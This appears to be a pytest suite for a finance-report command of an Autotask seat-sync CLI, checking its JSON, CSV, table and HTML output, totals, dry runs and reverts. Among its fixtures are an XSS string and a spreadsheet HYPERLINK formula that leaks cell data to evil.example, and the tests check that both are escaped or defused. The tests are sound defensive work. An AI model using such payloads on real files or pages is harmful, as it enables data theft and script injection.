"""``report``: the month for finance, from a real history file, through the real CLI."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser

import pytest
from conftest import make_config, write_config
from fake_autotask import PERIOD, cs_id

from infima_autotask.history import REVERT_RUN, History, ItemRecord

GENERATED = datetime(2026, 12, 2, 8, 0, tzinfo=timezone.utc)
HOSTILE = "<script>alert(1)</script> \"&'"


class Clock:
    def __init__(self) -> None:
        self.now = datetime(2026, 10, 1, 6, 0, tzinfo=timezone.utc)

    def __call__(self) -> datetime:
        self.now += timedelta(seconds=1)
        return self.now


@pytest.fixture(autouse=True)
def no_requests(requests_mock):
    """No route is registered: a request would fail, and none may be made."""
    yield requests_mock
    assert requests_mock.call_count == 0


@pytest.fixture
def configured(config_path, seams):
    write_config(config_path, make_config())
    seams["clock"] = lambda: GENERATED


def record(
    client_id, status, *, before, after=None, change=None, price=4.5, name=None, message="", cs=None
):
    after = before if after is None else after
    change = after - before if change is None else change
    return ItemRecord(
        client_id=client_id,
        client_name=name or f"Client {client_id}",
        contract_id=29684001,
        contract_service_id=cs or cs_id(client_id),
        users=after,
        target=before + change,
        before=before,
        after=after,
        change=change,
        price=price,
        cost=2.25,
        status=status,
        message=message,
        effective_date=None if status == "skipped" else "2026-12-01",
    )


def sync_run(history, period, items, *, dry_run=False):
    run = history.start_run(period=period, dry_run=dry_run, version="0.1.0")
    history.record_items(run, items)
    history.finish_run(run, outcome="ok", summary={})
    return run


@pytest.fixture
def history(state_dir, configured):
    with History(state_dir, clock=Clock()) as opened:
        yield opened


@pytest.fixture
def month(history):
    """Two earlier months, then 2026-12: a first run and a repeated one finding nothing to do."""
    sync_run(
        history,
        "2026-10",
        [record(101, "updated", before=8, after=9), record(107, "unchanged", before=3)],
    )
    sync_run(
        history,
        "2026-11",
        [
            record(101, "updated", before=9, after=10),
            record(105, "unchanged", before=4, name=HOSTILE),
        ],
    )
    sync_run(
        history,
        PERIOD,
        [
            record(101, "updated", before=10, after=12),  # +2 x 4.50 = +9.00
            record(102, "held", before=20, change=-15, message="drop of 75% (20 -> 5) is held"),
            record(104, "updated", before=5, after=8, price=0.995),  # +3 x 0.995 = +2.985
            record(105, "skipped", before=4, name=HOSTILE, message="no billing period"),
            record(106, "updated", before=8, after=5, price=12.345),  # -3 x 12.345 = -37.035
        ],
    )
    # The repeated run: the lines already show their targets.
    sync_run(
        history,
        PERIOD,
        [record(101, "unchanged", before=12), record(104, "unchanged", before=8, price=0.995)],
    )
    return history


def report_json(invoke, *args):
    result = invoke("report", "--format", "json", *args)
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


# -- the figures ----------------------------------------------------------------------------


def test_json_document_rows_and_totals(invoke, month):
    document = report_json(invoke, "--month", PERIOD)

    assert document["period"] == PERIOD
    assert document["generated_at"] == "2026-12-02T08:00:00Z"
    assert document["dry_run"] is False
    rows = {row["client_id"]: row for row in document["rows"]}
    assert [row["client_id"] for row in document["rows"]] == [105, 101, 102, 104, 106]  # by name
    assert rows[101] == {
        "client_id": 101,
        "client": "Client 101",
        "contract_service_id": cs_id(101),
        "users": 12,
        "before": 10,  # from the month's first run, not the repeated one
        "after": 12,
        "change": 2,
        "unit_price": 4.5,
        "money_change": 9.0,
        "status": "updated",  # the repeated run's "unchanged" does not hide the write
        "effective": "2026-12-01",
        "detail": f"written by run {rows[101]['run_id'] - 1}",
        "run_id": rows[101]["run_id"],
        "run_kind": "sync",
    }
    assert (rows[102]["change"], rows[102]["money_change"], rows[102]["status"]) == (0, 0.0, "held")
    assert rows[102]["detail"] == "drop of 75% (20 -> 5) is held"
    assert rows[104]["money_change"] == 2.99  # half up, from the decimal 0.995
    assert (rows[106]["change"], rows[106]["unit_price"], rows[106]["money_change"]) == (
        -3,
        12.345,
        -37.04,
    )
    assert (rows[105]["client"], rows[105]["effective"]) == (HOSTILE, None)
    assert document["totals"] == {
        "clients": 5,
        "users": 12 + 20 + 8 + 4 + 5,
        "before": 10 + 20 + 5 + 4 + 8,
        "after": 12 + 20 + 8 + 4 + 5,
        "change": 2 + 0 + 3 + 0 - 3,
        "money_change": -25.05,  # 9.00 + 2.99 - 37.04, never -25.049999...
        "statuses": {
            "updated": 3,
            "unchanged": 0,
            "planned": 0,
            "skipped": 1,
            "held": 1,
            "failed": 0,
            "writing": 0,
        },
    }


def test_json_alias_and_its_conflict(invoke, month):
    alias = invoke("report", "--month", PERIOD, "--json")
    assert alias.exit_code == 0
    assert alias.stdout == invoke("report", "--month", PERIOD, "--format", "json").stdout
    clash = invoke("report", "--json", "--format", "csv")
    assert clash.exit_code == 2
    assert "--json is the same as --format json" in clash.stderr


def test_table_has_every_column_and_a_totals_line(invoke, month):
    result = invoke("report", "--month", PERIOD)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].split() == [
        "Client", "ID", "Client", "Users", "Before", "After", "Change", "Unit", "price",
        "Money", "change", "Status", "Effective", "Detail",
    ]  # fmt: skip
    by_client = {line.split()[0]: line for line in lines[2:]}
    assert by_client["101"].split()[3:11] == [
        "12", "10", "12", "+2", "4.50", "+9.00", "updated", "2026-12-01",
    ]  # fmt: skip
    assert by_client["104"].split()[3:9] == ["8", "5", "8", "+3", "0.995", "+2.99"]
    assert by_client["106"].split()[3:9] == ["5", "8", "5", "-3", "12.345", "-37.04"]
    assert lines[-2].startswith("-----")  # the totals line stands apart
    assert lines[-1].split()[:8] == ["Total", "5", "clients", "49", "47", "49", "+2", "-"]
    assert "-25.05" in lines[-1]
    assert lines[-1].endswith("3 updated, 0 unchanged, 1 skipped, 1 held, 0 failed")
    assert result.stderr == "Report for 2026-12: 5 clients, change +2 units, money change -25.05\n"


def test_csv_parses_back_with_a_marked_totals_row(invoke, month):
    result = invoke("report", "--month", PERIOD, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    *clients, total = rows
    assert [row["Client ID"] for row in clients] == ["105", "101", "102", "104", "106"]
    first = next(row for row in clients if row["Client ID"] == "101")
    assert first == {
        "Client ID": "101",
        "Client": "Client 101",
        "Users": "12",
        "Before": "10",
        "After": "12",
        "Change": "2",
        "Unit price": "4.50",
        "Money change": "9.00",
        "Status": "updated",
        "Effective": "2026-12-01",
        "Detail": first["Detail"],
    }
    assert clients[0]["Client"] == HOSTILE and clients[0]["Effective"] == ""
    assert total["Client ID"] == "Total" and total["Client"] == "5 clients"
    assert (total["Users"], total["Change"], total["Money change"]) == ("49", "2", "-25.05")
    assert total["Detail"] == "3 updated, 0 unchanged, 1 skipped, 1 held, 0 failed"


def test_csv_defuses_a_client_name_a_spreadsheet_would_run(invoke, history):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Acme")'
    sync_run(history, PERIOD, [record(101, "unchanged", before=3, name=formula)])
    rows = list(
        csv.reader(io.StringIO(invoke("report", "--month", PERIOD, "--format", "csv").stdout))
    )
    assert rows[1][1] == "'" + formula
    assert (
        json.loads(invoke("report", "--month", PERIOD, "--json").stdout)["rows"][0]["client"]
        == formula
    )


# -- the HTML page --------------------------------------------------------------------------

VOID = {"meta", "br", "hr", "img", "input", "link", "area", "base", "col", "source", "wbr"}


class Page(HTMLParser):
    """Collects tags, attributes and text; checks that every element is closed in order."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.stack: list[str] = []
        self.text: list[str] = []
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if not self.stack or self.stack[-1] != tag:
            self.problems.append(f"</{tag}> closes {self.stack[-1:] or 'nothing'}")
        else:
            self.stack.pop()

    def handle_data(self, data):
        self.text.append(data)


def parse(page: str) -> Page:
    parser = Page()
    parser.feed(page)
    parser.close()
    assert parser.problems == [] and parser.stack == []
    return parser


def test_html_is_one_self_contained_page_with_a_chart(invoke, month):
    result = invoke("report", "--month", PERIOD, "--format", "html")
    assert result.exit_code == 0, result.output
    page = parse(result.stdout)
    names = [tag for tag, _ in page.tags]
    assert names[:4] == ["html", "head", "meta", "meta"] and names[4] == "title"
    # Nothing fetched from anywhere: no link, script, image, frame, font or URL in any attribute.
    assert not {"link", "script", "img", "iframe", "object", "embed", "image", "use"} & set(names)
    for tag, attrs in page.tags:
        for key, value in attrs.items():
            assert key not in ("src", "href", "xlink:href", "srcset"), (tag, key)
            assert "//" not in (value or "") and "url(" not in (value or ""), (tag, key)
    style = "".join(page.text)
    assert "@import" not in style and "url(" not in style and "@font-face" not in style
    # The title and the table with its totals.
    assert "INFIMA seats in Autotask: report for 2026-12" in page.text
    assert "Total" in page.text and "-25.05" in page.text and "+9.00" in page.text
    assert names.count("tfoot") == 1 and names.count("table") == 1
    # One SVG, one series per client: this month's five, then 107 seen only in October.
    assert names.count("svg") == 1
    series = [attrs["data-client-id"] for tag, attrs in page.tags if attrs.get("class") == "series"]
    assert series == ["105", "101", "102", "104", "106", "107"]
    paths = [attrs["d"] for tag, attrs in page.tags if tag == "path"]
    assert len(paths) == 6
    assert paths[1].count("M") == 1 and paths[1].count("L") == 2  # 101: Oct, Nov, Dec
    assert paths[5].count("M") == 1 and paths[5].count("L") == 0  # 107: October only
    assert "101 Client 101: 2026-10 9, 2026-11 10, 2026-12 12" in page.text  # on hover
    # The hostile name is shown as text, escaped in the source, and never a tag.
    assert HOSTILE in page.text
    assert "<script>" not in result.stdout and "&lt;script&gt;" in result.stdout
    assert "&quot;&amp;&#x27;" in result.stdout


def test_html_chart_stays_one_row_per_client_for_300(invoke, history):
    sync_run(
        history, PERIOD, [record(cid, "unchanged", before=cid % 40 + 1) for cid in range(1, 301)]
    )
    result = invoke("report", "--month", PERIOD, "--format", "html")
    page = parse(result.stdout)
    series = [attrs for tag, attrs in page.tags if attrs.get("class") == "series"]
    assert len(series) == 300
    svg = next(attrs for tag, attrs in page.tags if tag == "svg")
    assert 300 * 20 < int(svg["height"]) < 300 * 30  # a row each, readable, not a wall of lines


# -- --output -------------------------------------------------------------------------------


def test_output_writes_the_file_atomically_and_nothing_on_stdout(invoke, month, tmp_path):
    target = tmp_path / "out" / "report-2026-12.html"
    target.parent.mkdir()
    target.write_text("an older report", encoding="utf-8")
    result = invoke("report", "--month", PERIOD, "--format", "html", "--output", str(target))
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert result.stderr == f"Report for 2026-12 (html) written to {target}\n"
    assert (
        target.read_text(encoding="utf-8")
        == invoke("report", "--month", PERIOD, "--format", "html").stdout
    )
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
    assert os.listdir(target.parent) == [target.name]  # no temporary file left behind


def test_output_that_cannot_be_written_is_an_error(invoke, month, tmp_path):
    folder = invoke("report", "--month", PERIOD, "--output", str(tmp_path))
    assert folder.exit_code == 2 and "is a directory" in folder.stderr
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("", encoding="utf-8")
    target = blocker / "report.csv"
    result = invoke("report", "--month", PERIOD, "--format", "csv", "--output", str(target))
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr.startswith(f"Error: Cannot write the report to {target}: ")
    assert result.stderr.endswith("choose another --output.\n")


# -- odd months ------------------------------------------------------------------------------


def test_no_history_file_says_run_sync_first_and_creates_nothing(invoke, configured, state_dir):
    result = invoke("report", "--month", PERIOD)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr.startswith(f"Error: No run history in {state_dir} yet: run ")
    assert "`infima-autotask sync` first" in result.stderr
    assert not state_dir.exists()


def test_a_month_without_runs_is_an_error_naming_it(invoke, month):
    result = invoke("report", "--month", "2026-05", "--format", "html")
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == (
        "Error: No run is recorded for 2026-05. Pick a month that has one (`infima-autotask "
        "history --runs` lists them), or run `infima-autotask sync --month 2026-05`.\n"
    )


def test_a_month_whose_runs_reached_no_client(invoke, history):
    run = history.start_run(period=PERIOD, dry_run=False, version="0.1.0")
    history.finish_run(run, outcome="error", summary={})
    result = invoke("report", "--month", PERIOD)
    assert result.exit_code == 2
    assert "The 1 run recorded for 2026-12 stopped before any client's result" in result.stderr


def test_only_dry_runs_report_the_plan_marked_not_written(invoke, history):
    sync_run(history, PERIOD, [record(101, "planned", before=10, after=12)], dry_run=True)
    result = invoke("report", "--month", PERIOD, "--json")
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    assert document["dry_run"] is True
    [row] = document["rows"]
    assert (row["status"], row["change"], row["money_change"]) == ("planned", 2, 9.0)
    assert row["detail"] == "dry run: not written"
    assert "2026-12 has only dry runs: nothing was written to Autotask." in result.stderr

    table = invoke("report", "--month", PERIOD)
    assert "1 planned, 0 unchanged" in table.stdout
    assert "dry run: nothing written" in table.stderr
    html = invoke("report", "--month", PERIOD, "--format", "html").stdout
    assert "only dry runs: nothing was written" in html
    assert "No seats were written in these twelve months." in html


def test_dry_runs_are_ignored_once_the_month_has_a_real_run(invoke, history):
    sync_run(history, PERIOD, [record(101, "planned", before=10, after=12)], dry_run=True)
    sync_run(history, PERIOD, [record(102, "unchanged", before=3)])
    sync_run(history, PERIOD, [record(102, "planned", before=3, after=9)], dry_run=True)
    document = report_json(invoke, "--month", PERIOD)
    assert document["dry_run"] is False
    assert [(row["client_id"], row["status"]) for row in document["rows"]] == [(102, "unchanged")]


def test_a_later_revert_run_stands_and_is_marked(invoke, history):
    sync = sync_run(
        history,
        PERIOD,
        [record(101, "updated", before=10, after=12), record(102, "unchanged", before=4)],
    )
    revert = history.start_run(
        period=PERIOD, dry_run=False, version="0.1.0", kind=REVERT_RUN, reverts=sync
    )
    history.record_items(revert, [record(101, "updated", before=12, after=10)])
    document = report_json(invoke, "--month", PERIOD)
    row = document["rows"][0]
    assert row["client_id"] == 101
    assert (row["before"], row["after"], row["change"], row["money_change"]) == (10, 10, 0, 0.0)
    # Back where the month began: no change to bill, and the revert says why.
    assert (row["status"], row["run_id"], row["run_kind"]) == ("unchanged", revert, "revert")
    assert row["detail"] == f"run {revert} reverted run {sync}"
    assert document["rows"][1]["run_kind"] == "sync"
    assert document["totals"]["money_change"] == 0.0


def test_a_sync_that_writes_the_line_again_after_a_revert_is_named(invoke, history):
    """Synced, reverted, then synced again: the row is the last sync's write, and its detail
    says the revert no longer stands (it named only the revert before)."""
    sync = sync_run(history, PERIOD, [record(101, "updated", before=10, after=12)])
    revert = history.start_run(
        period=PERIOD, dry_run=False, version="0.1.0", kind=REVERT_RUN, reverts=sync
    )
    history.record_items(revert, [record(101, "updated", before=12, after=10)])
    again = sync_run(history, PERIOD, [record(101, "updated", before=10, after=12)])
    row = report_json(invoke, "--month", PERIOD)["rows"][0]
    assert (row["status"], row["after"], row["run_id"]) == ("updated", 12, again)
    assert row["detail"] == f"run {revert} reverted run {sync}; then run {again} wrote it again"


def test_a_revert_that_wrote_nothing_on_a_line_is_named_but_the_line_keeps_its_change(
    invoke, history
):
    """The revert changed nothing: the sync's write still stands (status, users, change),
    and the revert's refusal is said beside it."""
    sync = sync_run(history, PERIOD, [record(101, "updated", before=10, after=12)])
    revert = history.start_run(
        period=PERIOD, dry_run=False, version="0.1.0", kind=REVERT_RUN, reverts=sync
    )
    refused = "the line shows 14 units now, not the 12 run 1 wrote"
    held = replace(record(101, "held", before=14, message=refused), users=None, target=None)
    history.record_items(revert, [held])  # a revert counts no users
    [row] = report_json(invoke, "--month", PERIOD)["rows"]
    assert (row["before"], row["after"], row["change"], row["status"]) == (10, 12, 2, "updated")
    assert (row["users"], row["run_id"], row["run_kind"]) == (12, sync, "sync")
    assert row["detail"] == f"run {revert}, a revert of run {sync}, left it as it was ({refused})"


def test_report_works_without_a_config_file(invoke, tmp_path, monkeypatch):
    state = tmp_path / "elsewhere"
    monkeypatch.setenv("INFIMA_AUTOTASK_STATE_DIR", str(state))
    with History(state) as history:
        sync_run(history, PERIOD, [record(101, "unchanged", before=7)])
    result = invoke("report", "--month", PERIOD, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1].startswith("101,Client 101,7,7,7,0,4.50,0.00,unchanged")


def test_a_write_of_unknown_outcome_is_shown_and_kept_out_of_the_totals(invoke, history):
    run = history.start_run(period=PERIOD, dry_run=False, version="0.1.0")
    history.record_items(run, [record(101, "updated", before=10, after=12)])
    history.record_intent(run, record(102, "planned", before=5, after=8))
    result = invoke("report", "--month", PERIOD, "--json")
    document = json.loads(result.stdout)
    row = document["rows"][1]
    assert (row["status"], row["before"], row["after"], row["change"], row["money_change"]) == (
        "writing",
        5,
        None,
        None,
        None,
    )
    assert row["detail"] == (
        f"outcome unknown: run {run} stopped while writing a change of +3 units; "
        "the next sync re-reads Autotask"
    )
    assert (document["totals"]["after"], document["totals"]["change"]) == (12, 2)
    assert document["totals"]["statuses"]["writing"] == 1
    assert "1 client with a write whose outcome is unknown" in result.stderr
    assert "1 outcome unknown" in invoke("report", "--month", PERIOD).stdout


def test_a_client_re_mapped_during_the_month_starts_on_its_new_line(invoke, history):
    sync_run(history, PERIOD, [record(101, "updated", before=10, after=12)])
    sync_run(history, PERIOD, [record(101, "updated", before=3, after=12, cs=cs_id(999))])
    [row] = report_json(invoke, "--month", PERIOD)["rows"]
    assert (row["contract_service_id"], row["before"], row["change"]) == (cs_id(999), 3, 9)


def test_the_default_month_is_this_month_in_sync_timezone(invoke, config_path, history, seams):
    sync_run(history, "2026-11", [record(101, "unchanged", before=7)])
    sync_run(history, PERIOD, [record(101, "unchanged", before=8)])
    # 02:00 UTC on 1 December is still 30 November in Los Angeles.
    seams["clock"] = lambda: datetime(2026, 12, 1, 2, 0, tzinfo=timezone.utc)
    write_config(config_path, make_config(sync={"timezone": "America/Los_Angeles"}))
    assert report_json(invoke)["period"] == "2026-11"
    write_config(config_path, make_config(sync={"timezone": "Europe/Berlin"}))
    assert report_json(invoke)["period"] == "2026-12"


def test_bad_options(invoke, month):
    assert invoke("report", "--month", "12-2026").exit_code == 2
    bad = invoke("report", "--format", "pdf")
    assert bad.exit_code == 2 and "'pdf' is not one of" in bad.stderr


def test_report_is_listed_between_history_and_demo(invoke):
    listing = invoke("--help").stdout
    assert listing.index("  history ") < listing.index("  report ") < listing.index("  demo ")


# -- end to end: a real sync fills the history, the report reads it without a request -------


@pytest.mark.usefixtures("no_backoff")
def test_report_after_a_real_sync_makes_no_request(invoke, setup, fake, requests_mock):
    for cid, units in {101: 10, 102: 5}.items():
        fake.add_client(cid, units)
    setup({101: 12, 102: 5})
    assert invoke("sync", "--month", PERIOD).exit_code == 0
    assert invoke("sync", "--month", PERIOD).exit_code == 0  # the repeat: nothing to write
    requests_mock.reset_mock()

    document = report_json(invoke)  # the fake's clock: 2026-12 is this month

    assert requests_mock.call_count == 0
    rows = {row["client_id"]: row for row in document["rows"]}
    assert (rows[101]["before"], rows[101]["after"], rows[101]["status"]) == (10, 12, "updated")
    assert (rows[101]["unit_price"], rows[101]["money_change"]) == (4.5, 9.0)
    assert (rows[101]["effective"], rows[102]["status"]) == ("2026-12-01", "unchanged")
    assert document["totals"]["money_change"] == 9.0


def test_output_into_a_folder_that_does_not_exist_is_refused(invoke, history, tmp_path):
    sync_run(history, PERIOD, [record(101, "unchanged", before=7)])
    target = tmp_path / "no-such-folder" / "report.csv"
    result = invoke("report", "--month", PERIOD, "--format", "csv", "--output", str(target))
    assert result.exit_code == 2
    assert result.stderr.startswith("Error: Cannot write the report to ")
    assert "does not exist" in result.stderr
    assert not target.parent.exists()
